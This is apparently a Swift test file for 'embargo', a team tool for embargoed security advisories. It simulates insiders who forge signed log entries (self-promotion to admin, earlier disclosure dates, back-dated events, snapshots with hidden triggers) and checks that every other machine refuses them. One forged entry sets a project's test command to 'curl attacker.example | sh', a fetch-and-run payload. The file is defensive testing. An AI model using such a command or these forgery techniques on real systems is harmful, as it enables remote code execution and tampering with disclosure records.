import EmbargoCrypto
import Foundation
import GRDB
import Testing
@testable import EmbargoKit
@testable import EmbargoStore

/// An inside attacker who skips embargo altogether: they hold the data key
/// and their own signing key, write a team log entry by hand and push it.
/// Every other machine refuses it (exit 4) and keeps its data.
extension TeamCLITests {
    /// Writes `changes` (the difference `forge` makes to the member's last
    /// synced state) as the next entry of the team log, sealed under
    /// `store`'s key and signed by `name`'s identity, and pushes it.
    static func pushForgedEntry(_ team: Team, as name: String, key store: Store? = nil, schema: String = Store.schema,
                                kind: TeamLogEntry.Kind = .changes, _ forge: (Database, EmbargoIdentity) throws -> Void) throws {
        let box = team[name]
        let identity = try box.identity("alice") // every sandbox keeps its identity at alice.identity
        let store = try store ?? Store.open(at: box.store, identity: identity.age)
        let base = try #require(try store.openState(at: box.store.appendingPathComponent("team/base.embargo"))).state
        let forged = try base.copy()
        try forged.queue.write { db in try forge(db, identity) }
        let changes = try RowDiff.diff(from: base, to: forged)

        let work = box.root.appendingPathComponent("forgery-\(UUID().uuidString)")
        try box.git(["clone", "--quiet", "--branch", "main", team.remote.path, work.path])
        let log = work.appendingPathComponent("log")
        let last = try #require(try FileManager.default.contentsOfDirectory(atPath: log.path).sorted().last)
        let sequence = try #require(TeamLogEntry.parse(fileName: last)).sequence
        let previous = Digest.sha256([UInt8](try Data(contentsOf: log.appendingPathComponent(last))))
        let snapshot = kind == .snapshot ? Data(try forged.databaseBytes().exposedBytes()).base64EncodedString() : nil
        let content = TeamLogEntry.Content(author: name, signingKey: identity.signingKey, at: "2026-12-04T10:00:00Z",
                                           kind: kind, changes: kind == .snapshot ? [] : changes, snapshot: snapshot, schema: schema)
        let (bytes, _) = try TeamLogEntry.seal(content, sequence: sequence + 1, previous: previous, identity: identity, store: store)
        try Data(bytes).write(to: work.appendingPathComponent(TeamLogEntry.path(sequence + 1, kind)))
        try box.git(["-C", work.path, "add", "--all"])
        try box.git(["-C", work.path, "commit", "--quiet", "-m", "embargo sync \(name) 2 changes"])
        try box.git(["-C", work.path, "push", "--quiet", "origin", "HEAD:main"])
    }

    /// An entry written by another version of embargo (another store schema)
    /// is not applied: one line says to update, and nothing changes here.
    @Test func anEntryFromAnotherVersionIsNotApplied() throws {
        let team = try Team(members: [("bob", "preparer")])
        defer { team.remove() }
        try team["alice"].ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
        try team["bob"].ok(["store", "sync"])
        for (schema, version) in [("m0007_disclosure", "an older"), ("m0099_future", "a newer")] {
            let head = try team.remoteHead()
            try Self.pushForgedEntry(team, as: "alice", schema: schema) { db, identity in
                try db.execute(sql: "UPDATE advisories SET description = 'from elsewhere' WHERE id = 'ADV-2026-001'")
                try AuditTrail.append(db, identity: identity, member: "alice", at: "2026-12-04T10:00:00Z", action: "advisory.edit",
                                      object: "ADV-2026-001", detail: "description")
            }
            let before = try team["bob"].ok(["advisory", "show", "ADV-2026-001", "--json"]).stdout
            let run = try team["bob"].embargo(["store", "sync"])
            #expect(run.status == 1, "\(schema): \(run.stderr)")
            #expect(run.stderr.contains("was written by \(version) version of embargo (store schema \(schema)"), "\(run.stderr)")
            #expect(run.stderr.contains("update embargo to the same version on every machine"), "\(run.stderr)")
            #expect(try team["bob"].ok(["advisory", "show", "ADV-2026-001", "--json"]).stdout == before)
            try team.resetRemote(to: head)
        }
        try team["bob"].ok(["store", "sync"])
        try team["bob"].ok(["audit", "verify"])
    }

    /// After the team upgrades embargo, entries the older version wrote may
    /// follow the log's newest snapshot, and a new clone cannot apply them: the
    /// clone says to ask an admin, and the admin's next sync with this version
    /// writes a snapshot that clones start from.
    @Test func aCloneAfterAnUpgradeStartsFromTheSnapshotAnAdminWrites() throws {
        let team = try Team(members: [("bob", "preparer")])
        defer { team.remove() }
        let alice = team["alice"]
        let carol = try Sandbox()
        defer { carol.remove() }
        try carol.becomeMember("carol", role: "preparer", addedBy: alice)
        try alice.ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
        // An entry of an older embargo, which alice's machine applied while it ran that version.
        let older: (Database, EmbargoIdentity) throws -> Void = { db, identity in
            try db.execute(sql: "UPDATE advisories SET description = 'older' WHERE id = 'ADV-2026-001'")
            try AuditTrail.append(db, identity: identity, member: "alice", at: "2026-12-04T10:00:00Z", action: "advisory.edit",
                                  object: "ADV-2026-001", detail: "description")
        }
        try Self.pushForgedEntry(team, as: "alice", schema: "m0013_releases", older)
        func logFiles() throws -> [String] {
            try alice.run("git", ["-C", team.remote.path, "ls-tree", "--name-only", "main", "log/"]).stdout
                .split(separator: "\n").map(String.init)
        }
        let entryPath = try #require(try logFiles().last)
        let copy = alice.root.appendingPathComponent("remote-copy")
        try alice.git(["clone", "--quiet", "--branch", "main", team.remote.path, copy.path])
        let entry = [UInt8](try Data(contentsOf: copy.appendingPathComponent(entryPath)))
        let identity = try alice.identity("alice")
        let store = try Store.open(at: alice.store, identity: identity.age)
        let baseFile = alice.store.appendingPathComponent("team/base.embargo")
        let base = try #require(try store.openState(at: baseFile)).state
        try base.queue.write { db in try older(db, identity) }
        try store.write { db in try older(db, identity) }
        let sequence = try #require(TeamLogEntry.parse(fileName: String(entryPath.dropFirst("log/".count)))).sequence
        try Data(try store.seal(base, generation: sequence)).write(to: baseFile)
        let state = alice.store.appendingPathComponent("team/state.json")
        var config = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: state)) as? [String: Any])
        #expect(config["clone_schema"] as? String == Store.schema)
        config["sequence"] = sequence
        config["digest"] = Digest.sha256(entry).map { String(format: "%02x", $0) }.joined()
        // As the older embargo kept it: no word on what a clone can replay.
        config.removeValue(forKey: "clone_schema")
        try JSONSerialization.data(withJSONObject: config).write(to: state)

        let refused = try carol.embargo(["store", "clone", team.remote.path])
        #expect(refused.status == 1, "\(refused.stderr)")
        #expect(refused.stderr.contains("holds entries of an older version of embargo (store schema m0013_releases"), "\(refused.stderr)")
        #expect(refused.stderr.contains("ask a store admin to run 'embargo store sync' with this version"), "\(refused.stderr)")
        #expect(!FileManager.default.fileExists(atPath: carol.store.appendingPathComponent("store.embargo").path))
        #expect(!FileManager.default.fileExists(atPath: carol.store.appendingPathComponent("team").path))

        let before = try logFiles()
        try alice.ok(["store", "sync"])
        let after = try logFiles()
        #expect(after.count == before.count + 1 && after.last?.hasSuffix(".snapshot") == true, "\(after)")
        try alice.ok(["store", "sync"])
        #expect(try logFiles() == after, "one snapshot, not one per sync")

        let cloned = try carol.ok(["store", "clone", team.remote.path])
        #expect(cloned.stdout.contains("team log entry \(after.count)"), "\(cloned.stdout)")
        let shown = try carol.json(carol.ok(["advisory", "show", "ADV-2026-001", "--json"]).stdout)["advisory"] as? [String: Any]
        #expect(shown?["description"] as? String == "older")
        for box in [alice, carol] {
            try box.ok(["store", "sync"])
            try box.ok(["audit", "verify"])
        }
    }

    /// A QA member's entry that makes them an admin (a role change only an
    /// admin may sign) is refused on every machine.
    @Test func anEntryBeyondItsAuthorsRoleIsRefusedEverywhere() throws {
        let team = try Team(members: [("bob", "qa"), ("carol", "preparer")])
        defer { team.remove() }
        try team["bob"].ok(["store", "sync"])
        try Self.pushForgedEntry(team, as: "bob") { db, identity in
            try db.execute(sql: "UPDATE members SET role = 'admin' WHERE name = 'bob'")
            try AuditTrail.append(db, identity: identity, member: "bob", at: "2026-12-04T10:00:00Z", action: "member.role", object: "bob",
                                  detail: "role admin")
        }
        for name in ["alice", "carol"] {
            let before = try team[name].ok(["member", "list"]).stdout
            let run = try team[name].embargo(["store", "sync"])
            #expect(run.status == 4, "\(name): \(run.stderr)")
            #expect(run.stderr.contains("team's changes are refused"), "\(name): \(run.stderr)")
            #expect(try team[name].ok(["member", "list"]).stdout == before, "\(name)'s data is intact")
            try team[name].ok(["audit", "verify"])
        }
    }

    /// An entry that rewrites an advisory without being what its author
    /// signed (its rows do not apply to the state before it) is refused.
    @Test func anEntryThatDoesNotApplyIsRefused() throws {
        let team = try Team(members: [("bob", "preparer")])
        defer { team.remove() }
        try team["alice"].ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
        try team["bob"].ok(["store", "sync"])
        try team["alice"].ok(["advisory", "edit", "ADV-2026-001", "--description", "changed meanwhile"])
        // bob's entry is built on the state before alice's edit, but claims to follow it.
        try Self.pushForgedEntry(team, as: "bob") { db, _ in
            try db.execute(sql: "UPDATE advisories SET description = 'forged' WHERE id = 'ADV-2026-001'")
        }
        let run = try team["alice"].embargo(["store", "sync"])
        #expect(run.status == 4, "\(run.stderr)")
        #expect(run.stderr.contains("is refused"), "\(run.stderr)")
        let shown = try team["alice"].json(team["alice"].ok(["advisory", "show", "ADV-2026-001", "--json"]).stdout)["advisory"] as? [String: Any]
        #expect(shown?["description"] as? String == "changed meanwhile")
    }

    /// A removed member still holds the old data key: an entry they seal
    /// with it after their removal is refused on every machine.
    @Test func anEntryByARemovedMemberIsRefusedEverywhere() throws {
        let team = try Team(members: [("bob", "preparer"), ("carol", "preparer")])
        defer { team.remove() }
        try team["bob"].ok(["store", "sync"])
        try team["carol"].ok(["store", "sync"])
        try team["alice"].ok(["member", "remove", "bob"])
        try Self.pushForgedEntry(team, as: "bob") { db, identity in
            try db.execute(sql: "UPDATE projects SET test_command = 'curl attacker.example | sh' WHERE name = 'sample'")
            try AuditTrail.append(db, identity: identity, member: "bob", at: "2026-12-04T10:00:00Z", action: "project.set", object: "sample",
                                  detail: "test command")
        }
        for name in ["alice", "carol"] {
            let run = try team[name].embargo(["store", "sync"])
            #expect(run.status == 4, "\(name): \(run.stderr)")
            #expect(try team[name].ok(["project", "show", "sample"]).stdout.contains("attacker") == false)
            try team[name].ok(["store", "verify"])
        }
    }
}

extension TeamCLITests {
    /// A member changes an advisory around embargo (no audit entry of theirs
    /// names it): refused everywhere, however well signed the entry is.
    @Test func aChangeWithoutItsAuditEntryIsRefused() throws {
        let team = try Team(members: [("bob", "preparer"), ("carol", "preparer")])
        defer { team.remove() }
        try team["alice"].ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
        try team["bob"].ok(["store", "sync"])
        try Self.pushForgedEntry(team, as: "bob") { db, identity in
            try db.execute(sql: "UPDATE advisories SET disclosure_at = '2026-12-05T00:00:00Z' WHERE id = 'ADV-2026-001'")
            // An entry about something else, to look like ordinary work.
            try AuditTrail.append(db, identity: identity, member: "bob", at: "2026-12-04T10:00:00Z", action: "advisory.note",
                                  object: "ADV-2026-999", detail: "")
        }
        for name in ["alice", "carol"] {
            let run = try team[name].embargo(["store", "sync"])
            #expect(run.status == 4, "\(name): \(run.stderr)")
            #expect(run.stderr.contains("changes advisory ADV-2026-001 without a signed audit entry"), "\(name): \(run.stderr)")
        }
    }
}

extension TeamCLITests {
    /// `attacker`'s entry, pushed: it moves ADV-2026-001's disclosure (scheduled
    /// for 2027-03-03 by alice) three months earlier under a signed `action`
    /// of theirs for the advisory. The other members have synced before.
    static func pushEarlierDisclosure(_ team: Team, by attacker: String, under action: String, detail: String) throws {
        try team["alice"].ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
        try team["alice"].ok(["schedule", "ADV-2026-001", "--at", "2027-03-03T16:00Z", "--allow-violation", "a test date"])
        for name in team.machines.keys where name != "alice" { try team[name].ok(["store", "sync"]) }
        try pushForgedEntry(team, as: attacker) { db, identity in
            try db.execute(sql: "UPDATE advisories SET disclosure_at = '2026-12-02T16:00:00Z' WHERE id = 'ADV-2026-001'")
            try AuditTrail.append(db, identity: identity, member: attacker, at: "2026-12-04T10:00:00Z", action: action,
                                  object: "ADV-2026-001", detail: detail)
        }
    }
}

extension TeamCLITests {
    /// A member whose role lets them only read and record QA signs an entry of
    /// their own for the advisory (an export), and with it moves the
    /// disclosure date: an export changes nothing, so the entry is refused
    /// everywhere and the date stays.
    @Test func anAuditEntryCoversOnlyWhatItsActionWrites() throws {
        let team = try Team(members: [("bob", "qa"), ("carol", "preparer")])
        defer { team.remove() }
        try Self.pushEarlierDisclosure(team, by: "bob", under: "advisory.export", detail: "osv draft")
        for name in ["alice", "carol"] {
            let run = try team[name].embargo(["store", "sync"])
            #expect(run.status == 4, "\(name): \(run.stderr)")
            #expect(run.stderr.contains("changes advisory ADV-2026-001 without a signed audit entry for it, none that may update rows of advisories"),
                    "\(name): \(run.stderr)")
            let shown = try team[name].json(team[name].ok(["advisory", "show", "ADV-2026-001", "--json"]).stdout)["advisory"] as? [String: Any]
            #expect(shown?["disclosure_at"] as? String == "2027-03-03T16:00:00Z", "\(name)'s date stays")
        }
    }

    /// Only a pre-release adds a pre-release: a security member who may edit
    /// advisories cannot slip in one of their own (which they could then
    /// approve, as its builder is not on record) under an edit.
    @Test func onlyAPrereleaseEntryAddsAPrerelease() throws {
        let team = try Team(members: [("bob", "security"), ("carol", "preparer")])
        defer { team.remove() }
        try team["alice"].ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
        try team["bob"].ok(["store", "sync"])
        try Self.pushForgedEntry(team, as: "bob") { db, identity in
            let manifest = #"{"forged":true}"#
            try db.execute(sql: """
                INSERT INTO prereleases (advisory, created_at, created_by, manifest, manifest_hash, bundle_name, bundle_hash, recipients)
                VALUES ('ADV-2026-001', '2026-12-04T10:00:00Z', 'bob', ?, ?, 'b.tar.age', 'x', '[]')
                """, arguments: [manifest, hex(Digest.sha256(Array(manifest.utf8)))])
            try AuditTrail.append(db, identity: identity, member: "bob", at: "2026-12-04T10:00:00Z", action: "advisory.edit",
                                  object: "ADV-2026-001", detail: "description")
        }
        let run = try team["carol"].embargo(["store", "sync"])
        #expect(run.status == 4, "\(run.stderr)")
        #expect(run.stderr.contains("none that may insert rows of prereleases"), "\(run.stderr)")
    }
}

extension TeamCLITests {
    /// A publisher marks an advisory published, which dates it; the same
    /// entry cannot move its disclosure date without publishing it (a
    /// publisher has no right to edit an advisory).
    @Test func aPublicationEntryMovesTheDateOnlyWhenItPublishes() throws {
        let team = try Team(members: [("pat", "publisher"), ("carol", "preparer")])
        defer { team.remove() }
        try Self.pushEarlierDisclosure(team, by: "pat", under: "advisory.publish", detail: "1.0.2")
        let run = try team["carol"].embargo(["store", "sync"])
        #expect(run.status == 4, "\(run.stderr)")
        #expect(run.stderr.contains("none that may change disclosure_at of advisories"), "\(run.stderr)")
    }
}

extension TeamCLITests {
    /// What a row says its member did is what the entry's signer did: a
    /// timeline event in someone else's name, or a pre-release event (from
    /// which the pre-release lead time is counted) under an edit, is refused
    /// everywhere; the signer's own note goes through.
    @Test func anEntryRecordsOnlyItsSignersOwnSteps() throws {
        let team = try Team(members: [("bob", "security"), ("carol", "preparer")])
        defer { team.remove() }
        try team["alice"].ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
        for name in ["bob", "carol"] { try team[name].ok(["store", "sync"]) }
        func event(actor: String, kind: String, under action: String) -> (Database, EmbargoIdentity) throws -> Void {
            { db, identity in
                try db.execute(sql: "INSERT INTO timeline (advisory, at, actor, kind, summary) VALUES ('ADV-2026-001', '2026-10-01T10:00:00Z', ?, ?, 'done')",
                               arguments: [actor, kind])
                try AuditTrail.append(db, identity: identity, member: "bob", at: "2026-12-04T10:00:00Z", action: action,
                                      object: "ADV-2026-001", detail: "a note")
            }
        }
        // A preparer's own pre-release entry that brings the event alone, back-dated, without the pre-release.
        let backDated: (Database, EmbargoIdentity) throws -> Void = { db, identity in
            try db.execute(sql: "INSERT INTO timeline (advisory, at, actor, kind, summary) VALUES ('ADV-2026-001', '2026-10-01T10:00:00Z', 'carol', 'prereleased', 'sent')")
            try AuditTrail.append(db, identity: identity, member: "carol", at: "2026-12-04T10:00:00Z", action: "advisory.prerelease",
                                  object: "ADV-2026-001", detail: "1.0.2")
        }
        for (author, forge, refusal) in [
            ("bob", event(actor: "alice", kind: "note", under: "advisory.note"), "changes timeline naming alice as actor, although bob signed it"),
            ("bob", event(actor: "bob", kind: "prereleased", under: "advisory.edit"), "with a prereleased event and no pre-release"),
            ("bob", event(actor: "bob", kind: "Prereleased ", under: "advisory.note"), "with a prereleased event and no pre-release"),
            ("bob", event(actor: "bob", kind: "Approved", under: "advisory.note"), "none whose action records approved events"),
            ("carol", backDated, "advisory ADV-2026-001 with a prereleased event and no pre-release"),
        ] {
            let head = try team.remoteHead()
            try Self.pushForgedEntry(team, as: author, forge)
            let run = try team[author == "bob" ? "carol" : "bob"].embargo(["store", "sync"])
            #expect(run.status == 4, "\(run.stderr)")
            #expect(run.stderr.contains(refusal), "\(run.stderr)")
            try team.resetRemote(to: head)
        }
        try Self.pushForgedEntry(team, as: "bob", event(actor: "bob", kind: "note", under: "advisory.note"))
        try team["carol"].ok(["store", "sync"])
        let timeline = try team["carol"].ok(["timeline", "ADV-2026-001", "--json"]).stdout
        #expect(timeline.contains("\"actor\" : \"bob\""), "\(timeline)")
        try team["carol"].ok(["audit", "verify"])
    }
}

extension TeamCLITests {
    /// A snapshot is the state the log before it makes: an admin's snapshot
    /// that also moves a disclosure date and rewrites a project's test command
    /// with no audit entry is refused everywhere; one that holds just the
    /// team's state goes through.
    @Test func anAdminsSnapshotHoldsOnlyWhatTheLogMade() throws {
        let team = try Team(members: [("bob", "preparer")])
        defer { team.remove() }
        try team["alice"].ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
        try team["alice"].ok(["schedule", "ADV-2026-001", "--at", "2027-03-03T16:00Z", "--allow-violation", "a test date"])
        try team["bob"].ok(["store", "sync"])
        let head = try team.remoteHead()
        try Self.pushForgedEntry(team, as: "alice", kind: .snapshot) { db, _ in
            try db.execute(sql: "UPDATE advisories SET disclosure_at = '2026-12-02T16:00:00Z' WHERE id = 'ADV-2026-001'")
            try db.execute(sql: "UPDATE projects SET test_command = 'touch pwned' WHERE name = 'sample'")
        }
        let run = try team["bob"].embargo(["store", "sync"])
        #expect(run.status == 4, "\(run.stderr)")
        #expect(run.stderr.contains("its snapshot is not the state the log before it makes: it changes"), "\(run.stderr)")
        let shown = try team["bob"].json(team["bob"].ok(["advisory", "show", "ADV-2026-001", "--json"]).stdout)["advisory"] as? [String: Any]
        #expect(shown?["disclosure_at"] as? String == "2027-03-03T16:00:00Z")

        // Rows alone do not say what a database does: a trigger that would rewrite
        // rows inside every later command, or a table dropped with its rows, is refused.
        for (forge, said) in [
            ("CREATE TRIGGER zz_move AFTER UPDATE ON advisories BEGIN UPDATE advisories SET disclosure_at = '2026-12-05T16:00:00Z'; END",
             "it holds trigger zz_move, which this version's schema has not"),
            ("DROP TABLE patch_checks", "it lacks table patch_checks of this version's schema"),
        ] {
            try team.resetRemote(to: head)
            try Self.pushForgedEntry(team, as: "alice", kind: .snapshot) { db, _ in try db.execute(sql: forge) }
            let refused = try team["bob"].embargo(["store", "sync"])
            #expect(refused.status == 4, "\(refused.stderr)")
            #expect(refused.stderr.contains("its snapshot's database is not a store of this version: \(said)"), "\(refused.stderr)")
        }
        try team.resetRemote(to: head)
        try Self.pushForgedEntry(team, as: "alice", kind: .snapshot) { _, _ in }
        try team["bob"].ok(["store", "sync"])
        try team["bob"].ok(["audit", "verify"])
    }
}
